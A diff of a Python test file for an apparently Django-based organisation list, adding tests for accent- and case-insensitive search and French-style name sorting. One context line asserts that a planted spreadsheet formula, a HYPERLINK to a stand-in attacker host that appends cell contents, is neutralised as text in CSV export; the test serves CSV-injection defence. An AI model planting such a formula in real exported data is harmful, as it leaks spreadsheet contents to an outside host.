@@ -46,7 +46,7 @@ def scene(scene):
 
 def listed_names(response) -> list[str]:
     return re.findall(
-        r'<th scope="row"><a href="/(?:en/)?organisations/[^/]+/">([^<]+)</a>',
+        r'<th scope="row"[^>]*><a href="/(?:en/)?organisations/[^/]+/"[^>]*>([^<]+)</a>',
         response.content.decode().replace("&#x27;", "'"),
     )
 
@@ -246,3 +246,36 @@ def test_a_name_planted_as_a_formula_is_written_as_text_in_the_csv(client, scene
     assert '"\'=HYPERLINK(""http://evil.example/?""&A1;""Cliquez"")"' in content
     rows = list(csv.reader(io.StringIO(content)))
     assert ["FJORD", "'" + planted] in [row[:2] for row in rows]
+
+
+@pytest.mark.parametrize(
+    ("word", "expected"),
+    [
+        ("cooperative", ["Coopérative du Fjord"]),
+        ("COOPÉRATIVE", ["Coopérative du Fjord"]),
+        ("ecole", ["École de l'Anse"]),
+        ("federation", ["Fédération des coops"]),
+    ],
+)
+def test_the_search_ignores_accents_and_case(client, scene, word, expected):
+    OrganisationFactory(code="ANSE", name="École de l'Anse")
+    response = signed_in(client, scene.people.owner).get(
+        url("members:organisation_list"), {"q": word}
+    )
+    assert listed_names(response) == expected
+
+
+def test_names_sort_as_french_readers_expect(client, scene):
+    """É with the E's, lower case with upper case: not after Z as bytes would put them."""
+    OrganisationFactory(code="ANSE", name="École de l'Anse")
+    OrganisationFactory(code="EAU", name="eau vive")
+    OrganisationFactory(code="ZEN", name="Zénith")
+    response = signed_in(client, scene.people.owner).get(url("members:organisation_list"))
+    assert listed_names(response) == [
+        "Coopérative du Fjord",
+        "eau vive",
+        "École de l'Anse",
+        "Fédération des coops",
+        "Mutuelle de l'Est",
+        "Zénith",
+    ]
